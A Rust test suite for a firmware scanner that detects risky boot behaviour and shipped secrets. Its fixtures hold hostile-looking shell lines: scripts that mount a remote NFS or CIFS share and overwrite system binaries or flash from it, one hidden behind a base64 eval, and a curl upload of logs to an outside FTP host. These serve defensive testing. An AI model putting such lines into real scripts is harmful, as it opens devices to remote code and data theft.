//! Known risk from end to end: trees with a behaviour and their twins without it, by the report and the exit code.

use std::fs;
use std::io::Write as _;
use std::path::Path;

use serde_json::Value;

use crate::samples::repository;
use crate::schemas;

/// Writes files below a folder.
fn write(root: &Path, files: &[(&str, &str)]) {
    for (path, text) in files {
        let path = root.join(path.trim_start_matches('/'));
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        let mut file = fs::File::create(path).unwrap();
        file.write_all(text.as_bytes()).unwrap();
    }
}

fn scan(files: &[(&str, &str)]) -> (Value, i32) {
    let root = tempfile::tempdir().unwrap();
    write(root.path(), files);
    schemas::run(&["scan", root.path().to_str().unwrap()])
}

fn codes(report: &Value) -> Vec<String> {
    let findings = report["findings"].as_array().unwrap();
    findings
        .iter()
        .map(|finding| finding["code"].as_str().unwrap().to_owned())
        .collect()
}

const CHAIN: &str = "#!/bin/sh\nIF=eth0\nSERVER=10.20.30.40\nifconfig $IF up\nup() {\n    mount -o nolock -t nfs \"$1:/pm\" /mnt || return\n    \
    [ -f /mnt/monitor ] && cp -rf /mnt/* /opt/bin\n}\nup $SERVER\n/opt/bin/monitor &\n";

#[test]
fn the_chain_is_proven_with_each_of_its_steps() {
    let inittab = ("/etc/inittab", "::sysinit:/etc/init.d/rcS\n");
    let start = (
        "/etc/init.d/rcS",
        "#!/bin/sh\nfor s in /etc/init.d/S*; do $s start; done\n",
    );
    let (report, code) = scan(&[inittab, start, ("/etc/init.d/S90net", CHAIN)]);
    assert_eq!(report["verdict"]["risk"], "known-risk");
    assert_eq!(code, 16);
    let findings = report["findings"].as_array().unwrap();
    let own: Vec<_> = findings
        .iter()
        .filter(|it| it["place"] == "/etc/init.d/S90net")
        .collect();
    assert_eq!(own.len(), 1, "{findings:#?}");
    assert_eq!(own[0]["code"], "remote-mount-overwrite");
    assert_eq!(own[0]["confidence"], "proven");
    let evidence: Vec<_> = own[0]["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .map(|it| it.as_str().unwrap())
        .collect();
    assert_eq!(
        evidence,
        [
            "line 6 (up): mount -o nolock -t nfs 10.20.30.40:/pm /mnt [remote-mount, private]",
            "line 7 (up): cp -rf /mnt/* /opt/bin [write, code-path, from-remote]",
            "it runs when the device starts: /etc/init.d/rcS",
        ]
    );
}

#[test]
fn the_same_in_other_words() {
    for text in [
        "#!/bin/ash\nmount.nfs 10.1.1.1:/x /var/r\ntar -C /var/r -cf - . | tar -C /usr/bin -xf -\ncd /var/r && mv app /usr/sbin/app\n",
        "#!/bin/sh\ncurlftpfs ftp://h.example/x /tmp/r\ndd if=/tmp/r/fw of=/dev/mtd4\n",
        "#!/bin/sh\nm='mount -t cifs'\n$m //nas/x /media/n; cat /media/n/rc > /etc/init.d/S99x\n",
        "#!/bin/sh\neval \"$(echo bW91bnQgLXQgbmZzIGE6L3ggL21udA== | base64 -d)\"; install -m755 /mnt/x /bin/x\n",
        "#!/bin/sh\nwhile ! mount -t nfs $NFS:/x /mnt; do sleep 1; done\ncase $1 in *) rsync -a /mnt/bin/ /opt/bin/;; esac\n",
    ] {
        let (report, code) = scan(&[("/opt/start.sh", text)]);
        let first = &report["findings"][0];
        assert_eq!(first["code"], "remote-mount-overwrite", "{text}");
        assert_eq!(first["confidence"], "proven", "{text}");
        assert_eq!(code, 16, "{text}");
    }
}

#[test]
fn twins_without_it_are_not_proven() {
    for (text, expected) in [
        // A mount for logs, which an administrator set.
        (
            "#!/bin/sh\n. /etc/site.conf\nmount -t nfs \"$NFS_SERVER:$NFS_PATH\" /mnt/logs\ncp /var/log/*.log /mnt/logs\n",
            &["remote-mount"][..],
        ),
        (
            "#!/bin/sh\nmount -t nfs 192.168.1.5:/logs /mnt && cp /var/log/system.log /mnt/\n",
            &["remote-mount"],
        ),
        // An update from a medium whose signature is verified.
        (
            "#!/bin/sh\nmount /dev/sda1 /media/usb\nopenssl dgst -sha256 -verify /etc/k.pem -signature /media/usb/s /media/usb/u || exit 1\n\
             tar xf /media/usb/u -C /opt\n",
            &[],
        ),
        (
            "#!/bin/sh\nifconfig eth0 up\nudhcpc -i eth0\ncp /etc/a /etc/b\n",
            &[],
        ),
        (
            "#!/bin/sh\nVERSION=2.0.11.5\nOID=1.3.6.1.4.1\necho $VERSION $OID 239.255.255.250\n",
            &[],
        ),
        (
            "#!/bin/sh\necho 'mount -t nfs 202.114.4.119:/pm /mnt; cp -rf /mnt/* /opt/bin'\n",
            &[],
        ),
    ] {
        let (report, code) = scan(&[("/opt/start.sh", text)]);
        assert_eq!(codes(&report), expected, "{text}");
        assert_eq!(code, 0, "{text}");
    }
}

#[test]
fn secrets_are_told_and_never_shown() {
    let hash = "$1$saltsalt$0123456789abcdefghijk.";
    let (report, _) = scan(&[
        (
            "/etc/passwd",
            "root:x:0:0::/root:/bin/sh\nsvc:x:0:0::/:/bin/sh\n",
        ),
        (
            "/etc/shadow",
            &format!("root:{hash}:19000:0:99999:7:::\nsvc::19000:0:99999:7:::\n"),
        ),
        ("/etc/wpa.conf", "network={\n  psk=\"Ward7Secret!\"\n}\n"),
        (
            "/etc/init.d/S1",
            "#!/bin/sh\necho 'root:Xy7secret!' | chpasswd\ncurl -u svc:Xy7secret! -T /var/log/a.log ftp://8.8.4.4/\n",
        ),
        (
            "/etc/ssl/k.pem",
            "-----BEGIN PRIVATE KEY-----\nTUlJRXZRSUJBREFO\n-----END PRIVATE KEY-----\n",
        ),
        (
            "/root/.ssh/authorized_keys",
            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 a@b\n",
        ),
    ]);
    let mut told = codes(&report);
    told.sort();
    assert_eq!(
        told,
        [
            "account-empty-password",
            "account-root-twin",
            "account-weak-hash",
            "authorized-key-shipped",
            "password-set-by-script",
            "private-key-shipped",
            "recorded-data-sent-public",
            "secret-in-clear",
        ]
    );
    let text = report.to_string();
    for secret in [
        hash,
        "saltsalt",
        "Ward7Secret",
        "Xy7secret",
        "TUlJRXZR",
        "AAAAC3Nza",
    ] {
        assert!(!text.contains(secret), "{secret}");
    }
}

/// The fingerprints or numbers of the secrets of a report, with the codes that tell them.
fn secrets(report: &Value) -> Vec<(String, String)> {
    let findings = report["findings"].as_array().unwrap();
    let mut all: Vec<(String, String)> = findings
        .iter()
        .flat_map(|finding| {
            let lines = finding["evidence"].as_array().unwrap().iter();
            lines.filter_map(|line| {
                let (_, secret) = line.as_str().unwrap().rsplit_once(" (secret ")?;
                let code = finding["code"].as_str().unwrap().to_owned();
                Some((secret.trim_end_matches(')').to_owned(), code))
            })
        })
        .collect();
    all.sort();
    all
}

#[test]
fn the_same_secret_is_recognised_by_whoever_has_the_key() {
    let folder = tempfile::tempdir().unwrap();
    let root = |name: &str, psk: &str| {
        let root = folder.path().join(name);
        let script = "#!/bin/sh\ncurl -u svc:Ward7Secret! -T /var/log/a.log ftp://8.8.4.4/\n";
        let psk = format!("network={{\n  psk=\"{psk}\"\n}}\n");
        write(
            &root,
            &[("/etc/wpa.conf", &psk), ("/etc/init.d/S1", script)],
        );
        root.to_str().unwrap().to_owned()
    };
    let (one, other) = (root("one", "Ward7Secret!"), root("other", "Ward8Secret!"));
    let key = |name: &str, letter: &str, count: usize| {
        write(folder.path(), &[(name, &letter.repeat(count))]);
        folder.path().join(name).to_str().unwrap().to_owned()
    };
    let scan = |root: &str, key: &str| schemas::run(&["scan", root, "--secret-key-file", key]).0;
    // Without a key: which are the same in this report.
    let (plain, _) = schemas::run(&["scan", &one]);
    assert_eq!(plain["secrets"]["located"], 2);
    assert_eq!(plain["secrets"]["distinct"], 1);
    assert_eq!(secrets(&plain)[0].0, "no. 1");
    assert_eq!(secrets(&plain)[1].0, "no. 1");
    // With one: which are the same on several units, and only with that key.
    let fleet = key("fleet", "a", 32);
    let (first, second) = (scan(&one, &fleet), scan(&other, &fleet));
    let (of_first, of_second) = (secrets(&first), secrets(&second));
    assert_eq!(of_first.len(), 2);
    assert_eq!(of_first[0].0, of_first[1].0);
    assert_eq!(of_first[0].0.len(), 32);
    assert!(of_second.contains(&of_first[0]) || of_second.contains(&of_first[1]));
    assert_ne!(of_second[0].0, of_second[1].0);
    assert_eq!(first["secrets"]["key"], second["secrets"]["key"]);
    let third = scan(&one, &key("another", "b", 32));
    assert_ne!(secrets(&third)[0].0, of_first[0].0);
    assert_ne!(third["secrets"]["key"], first["secrets"]["key"]);
    for report in [&plain, &first, &second, &third] {
        schemas::holds(&schemas::schema("report"), report, "secrets");
        assert!(!report.to_string().contains("Ward7Secret"));
    }
    // A key that could be guessed is none.
    let short = key("short", "a", 31);
    let ended = std::process::Command::new(env!("CARGO_BIN_EXE_vitalsign"))
        .args(["scan", &one, "--secret-key-file", &short])
        .output()
        .unwrap();
    assert_eq!(ended.status.code(), Some(64));
}

#[test]
fn what_is_new_weighs_more_and_the_vendors_own_is_marked() {
    let root = tempfile::tempdir().unwrap();
    let (old, new) = (root.path().join("old"), root.path().join("new"));
    let own = (
        "/etc/inetd.conf",
        "telnet stream tcp nowait root /usr/sbin/telnetd telnetd\n",
    );
    write(&old, &[own]);
    write(
        &new,
        &[
            own,
            (
                "/etc/rc.local",
                "#!/bin/sh\nmount -t nfs 10.0.0.1:/x /mnt\n",
            ),
        ],
    );
    let (report, _) = schemas::run(&["diff", old.to_str().unwrap(), new.to_str().unwrap()]);
    let find = |code: &str| {
        let all = report["findings"].as_array().unwrap();
        all.iter()
            .find(|it| it["code"] == code)
            .unwrap_or_else(|| panic!("{code}: {all:#?}"))
            .clone()
    };
    assert_eq!(find("remote-mount")["severity"], "high");
    assert!(
        find("remote-mount")["evidence"]
            .to_string()
            .contains("the baseline does not have this file")
    );
    assert_eq!(find("telnet-service")["severity"], "medium");
    assert!(
        find("telnet-service")["evidence"]
            .to_string()
            .contains("belongs to that release")
    );
    assert_eq!(find("start-program-changed")["place"], "/etc/rc.local");
}

/// A hive that hivex wrote has services; those of `ControlSet001` start \\Windows\\monitor<N>.exe, every fifth is switched off.
#[test]
fn a_changed_program_of_a_service_is_told() {
    let root = tempfile::tempdir().unwrap();
    let hive = fs::read(repository().join("fixtures/regf/grown.img.gz")).unwrap();
    for (name, program) in [("old", "one"), ("new", "other")] {
        let files = [
            ("/Windows/Monitor1.exe", program),
            ("/Windows/Monitor4.exe", program),
        ];
        write(&root.path().join(name), &files);
        let config = root.path().join(name).join("Windows/System32/config");
        fs::create_dir_all(&config).unwrap();
        let mut file = fs::File::create(config.join("SYSTEM.gz")).unwrap();
        file.write_all(&hive).unwrap();
    }
    let path = |name: &str| root.path().join(name).to_str().unwrap().to_owned();
    let (report, _) = schemas::run(&["diff", &path("old"), &path("new")]);
    let all = report["findings"].as_array().unwrap();
    let changed: Vec<_> = all
        .iter()
        .filter(|it| it["code"] == "start-program-changed")
        .collect();
    assert_eq!(changed.len(), 1, "{all:#?}");
    assert_eq!(changed[0]["place"], "/Windows/Monitor1.exe");
    assert!(
        changed[0]["evidence"]
            .to_string()
            .contains("the service service01")
    );
}

#[test]
fn documentation_is_worth_knowing_and_no_more() {
    let (report, code) = scan(&[("/usr/share/doc/x/examples/a.sh", CHAIN)]);
    assert_eq!(report["findings"][0]["severity"], "info");
    assert_eq!(report["findings"][0]["confidence"], "hint");
    assert_eq!(
        (report["verdict"]["risk"].as_str(), code),
        (Some("none-found"), 0)
    );
}

#[test]
fn what_is_not_understood_is_told() {
    let (report, _) = scan(&[("/etc/init.d/S1", "#!/bin/sh\necho 'open\n")]);
    let rows = report["not_checked"].as_array().unwrap();
    assert!(
        rows.iter()
            .any(|row| row["reason"].as_str().unwrap().contains("line 2: a quote")),
        "{rows:#?}"
    );
    assert!(rows.iter().any(|row| {
        row["reason"]
            .as_str()
            .unwrap()
            .contains("the code of programs")
    }));
}
